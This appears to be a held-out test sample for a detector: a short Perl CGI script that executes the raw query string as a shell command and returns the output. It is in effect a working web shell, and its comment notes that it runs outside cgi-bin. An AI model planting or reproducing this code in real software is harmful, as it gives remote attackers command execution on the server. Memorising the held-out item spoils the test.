#!/usr/bin/perl
# Held-out round D shape (team's own writing): a .cgi outside any cgi-bin (Apache runs .cgi
# anywhere with "AddHandler cgi-script .cgi") that runs the raw query string. Inert sample.
use strict;
print "Content-Type: text/plain\n\n";
my $q = $ENV{'QUERY_STRING'} || '';
$q =~ s/%20/ /g;
my @lines = `$q 2>&1`;
print @lines;
